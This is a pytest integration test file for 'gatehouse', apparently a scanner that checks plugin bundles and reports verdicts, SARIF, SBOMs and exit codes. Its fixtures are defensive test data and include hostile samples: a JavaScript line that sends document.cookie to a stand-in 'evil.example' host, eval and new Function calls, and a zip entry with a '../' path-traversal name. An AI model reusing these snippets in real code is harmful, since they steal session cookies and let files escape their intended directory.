"""`gatehouse scan` end to end: real clamd, real stages, report formats, exit codes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from scanner.config import Settings
from service.cli import main
from tests.conftest import BundleMaker, manifest

pytestmark = pytest.mark.integration


@pytest.fixture
def env(
    clamd_settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> dict[str, str]:
    values = {
        "GATEHOUSE_DATA_DIR": str(clamd_settings.data_dir),
        "GATEHOUSE_WORK_ROOT": str(tmp_path / "work"),
        "GATEHOUSE_OFFICIAL_CLAMAV_DB": str(clamd_settings.official_clamav_db),
    }
    for key, value in values.items():
        monkeypatch.setenv(key, value)
    return values


def _scan(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(["scan", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_clean_bundle_passes_with_every_stage_ok(
    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = _scan(capsys, str(make_bundle()), "--format", "json")
    report = json.loads(out)
    assert code == 0
    assert report["verdict"] == "pass"
    assert {s["name"]: s["status"] for s in report["stages"]} == {
        "archive": "ok",
        "manifest": "ok",
        "js-static": "ok",
        "python-static": "ok",
        "dependencies": "ok",
        "libraries": "ok",
        "secrets": "ok",
        "directives": "ok",
        "yara": "ok",
        "antivirus": "ok",
        "runtime": "ok",
        "capabilities": "ok",
    }
    assert report["bundle"]["name"] == "test-plugin" and len(report["bundle"]["sha256"]) == 64
    assert report["ruleset"].startswith("sha256:")
    assert {"clamav", "yara", "bandit", "tree-sitter"} <= set(report["tool_versions"])
    assert "dist/bundle.js" in report["coverage"]["antivirus"]["scanned"]


def test_malicious_bundle_is_rejected_with_reasons(
    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
) -> None:
    js = "var TestPlugin={mount:function(c){fetch('https://x.evil.example/?c='+document.cookie);}};"
    code, out, _ = _scan(
        capsys, str(make_bundle({"dist/bundle.js": js})), "--format", "json", "--fail-on", "reject"
    )
    report = json.loads(out)
    assert code == 1
    assert report["verdict"] == "reject"
    assert {"exfiltration", "credential-access"} <= {f["category"] for f in report["findings"]}
    assert report["reasons"][0]["action"] == "reject"
    assert report["risk_score"] > 0


def test_fail_on_review_and_exit_codes(
    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
) -> None:
    js = "var TestPlugin={mount:function(c){var f=new Function(c.dataset.code);}};"
    bundle = str(make_bundle({"dist/bundle.js": js}))
    assert _scan(capsys, bundle, "--format", "json", "--fail-on", "reject")[0] == 0
    assert _scan(capsys, bundle, "--format", "json", "--fail-on", "review")[0] == 1
    assert _scan(capsys, bundle, "--format", "json")[0] == 0


def test_sarif_output_file_for_github(
    env: dict[str, str],
    make_bundle: BundleMaker,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    js = "var TestPlugin={mount:function(c){eval(c.dataset.code);eval(c.title);}};"
    (tmp_path / "reports").mkdir()
    out_file = tmp_path / "reports" / "scan.sarif"
    code, out, err = _scan(
        capsys,
        str(make_bundle({"dist/bundle.js": js})),
        "--format",
        "sarif",
        "--output",
        str(out_file),
        "--sarif-category",
        "plugins/test-plugin",
    )
    assert code == 0 and out == "" and "review" in err
    sarif = json.loads(out_file.read_text())
    assert sarif["version"] == "2.1.0"
    run = sarif["runs"][0]
    assert run["automationDetails"] == {"id": "plugins/test-plugin/"}
    rule = run["tool"]["driver"]["rules"][0]
    assert {"id", "shortDescription", "fullDescription", "help"} <= set(rule)
    assert float(rule["properties"]["security-severity"]) > 0
    results = run["results"]
    static = [r for r in results if r["ruleId"] == "js-eval"]
    assert len(static) == 2
    hashes = [r["partialFingerprints"]["primaryLocationLineHash"] for r in results]
    assert len(set(hashes)) == len(results)
    assert (
        static[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "dist/bundle.js"
    )


def test_a_bad_sarif_category_is_a_usage_error(
    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _scan(
        capsys, str(make_bundle()), "--format", "sarif", "--sarif-category", "a\x1bb"
    )
    assert code == 2 and out == "" and "--sarif-category" in err and "\x1b" not in err


def test_text_format_for_people(
    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = _scan(
        capsys, str(make_bundle(plugin=manifest(name="Bad Name"))), "--format", "text"
    )
    assert code == 0
    assert "verdict: REJECT" in out and "name:" in out


def test_clamd_down_fails_closed(
    env: dict[str, str],
    make_bundle: BundleMaker,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("GATEHOUSE_CLAMD_SOCKET", str(tmp_path / "nothing.sock"))
    code, out, _ = _scan(capsys, str(make_bundle()), "--format", "json")
    report = json.loads(out)
    assert code == 0
    assert report["verdict"] == "review"
    antivirus = next(s for s in report["stages"] if s["name"] == "antivirus")
    assert antivirus["status"] == "error" and "not reachable" in antivirus["error"]


@pytest.mark.parametrize("flag", ["--output", "--artifacts", "--keep-workdir"])
def test_output_into_a_missing_directory_is_an_error(
    flag: str,
    env: dict[str, str],
    make_bundle: BundleMaker,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    target = tmp_path / "no-such-dir" / "out"
    assert main(["scan", str(make_bundle()), flag, str(target)]) == 2
    err = capsys.readouterr().err
    assert "does not exist" in err and "Traceback" not in err
    assert not (tmp_path / "no-such-dir").exists()


def test_version_is_the_one_version(capsys: pytest.CaptureFixture[str]) -> None:
    import importlib.metadata

    import scanner

    with pytest.raises(SystemExit) as exc:
        main(["--version"])
    assert exc.value.code == 0
    assert capsys.readouterr().out.strip() == f"gatehouse {scanner.__version__}"
    assert importlib.metadata.version("gatehouse") == scanner.__version__


def test_ctrl_c_exits_130_without_a_traceback(
    env: dict[str, str], make_bundle: BundleMaker, tmp_path: Path
) -> None:
    """SIGINT to the whole process group, as a terminal's Ctrl-C sends it, mid-scan."""
    import signal
    import time

    work = Path(env["GATEHOUSE_WORK_ROOT"])
    script = Path(sys.executable).parent / "gatehouse"
    proc = subprocess.Popen(
        [str(script), "scan", str(make_bundle()), "--format", "json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, **env},
        start_new_session=True,
    )
    deadline = time.monotonic() + 60
    # Once the scan's work dir exists, main() is running the scan.
    while not (work.is_dir() and any(work.glob("scan-*"))) and time.monotonic() < deadline:
        time.sleep(0.02)
    os.killpg(proc.pid, signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err
    assert "Traceback" not in err and "interrupted" in err
    assert out == ""
    assert not any(work.glob("scan-*")), "the interrupted scan's work dir is left behind"


def test_missing_bundle_exits_2_with_a_message(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", "/no/such/bundle.zip"]) == 2
    err = capsys.readouterr().err
    assert "no such file" in err and "Traceback" not in err


@pytest.mark.parametrize("argv", [["scan"], ["frobnicate"], ["scan", "x.zip", "--format", "pdf"]])
def test_bad_command_lines_exit_2(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(argv)
    assert exc.value.code == 2
    assert "Traceback" not in capsys.readouterr().err


def test_console_script_on_hostile_archives(env: dict[str, str], tmp_path: Path) -> None:
    """Through the installed entry point: JSON on stdout, no traceback, nothing escapes."""
    escape = tmp_path / "escaped.txt"
    bundle = tmp_path / "slip.zip"
    with zipfile.ZipFile(bundle, "w") as zf:
        zf.writestr("plugin.json", json.dumps(manifest()))
        zf.writestr("../escaped.txt", "pwned")
    script = Path(sys.executable).parent / "gatehouse"
    proc = subprocess.run(
        [str(script), "scan", str(bundle), "--format", "json"],
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)
    assert report["verdict"] == "reject"
    assert report["findings"][0]["rule_id"] == "archive-path-traversal"
    assert "Traceback" not in proc.stderr
    assert not escape.exists()


def test_advisories_import_and_status(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("GATEHOUSE_DATA_DIR", str(tmp_path / "data"))
    osv_dir = tmp_path / "osv"
    osv_dir.mkdir()
    (osv_dir / "PYSEC-1.json").write_text(
        json.dumps(
            {
                "id": "PYSEC-1",
                "modified": "2020-01-01T00:00:00Z",
                "affected": [
                    {"package": {"ecosystem": "PyPI", "name": "demo"}, "versions": ["1.0"]}
                ],
            }
        )
    )
    assert main(["advisories", "import", str(osv_dir), "--snapshot", "2020-01-01"]) == 0
    assert "osv:osv: 1 advisories" in capsys.readouterr().out
    assert main(["advisories", "status"]) == 0
    out = capsys.readouterr().out
    assert "osv:osv: 1 advisories (PyPI 1); data as of 2020-01-01" in out
    assert "STALE" in out and "warning:" in out
    assert main(["advisories", "import", str(tmp_path / "missing")]) == 2
    bad = tmp_path / "npmrepository.json"
    bad.write_text(json.dumps({"w": {"vulnerabilities": [{"below": "~", "identifiers": {}}]}}))
    assert main(["advisories", "import", str(bad)]) == 0
    assert "1 range bounds could not be read" in capsys.readouterr().out
    assert main(["advisories", "status"]) == 0
    out = capsys.readouterr().out
    assert "retirejs:npmrepository: 1 advisories" in out
    assert (
        "warning: 1 range bounds could not be read" in out
        and "RETIRE-w-~ w: unreadable fixed '~'" in out
    )


def test_sbom_lists_components_with_vulnerabilities(
    env: dict[str, str],
    make_bundle: BundleMaker,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    bundle = make_bundle({"backend/requirements.txt": "urllib3==1.24.1\n"})
    out_file = tmp_path / "sbom.json"
    assert main(["sbom", str(bundle), "--output", str(out_file)]) == 0
    sbom = json.loads(out_file.read_text())
    assert sbom["specVersion"] == "1.6"
    assert [c["purl"] for c in sbom["components"]] == ["pkg:pypi/urllib3@1.24.1"]
    assert sbom["vulnerabilities"] and all(
        v["affects"][0]["ref"] == "pkg:pypi/urllib3@1.24.1" for v in sbom["vulnerabilities"]
    )
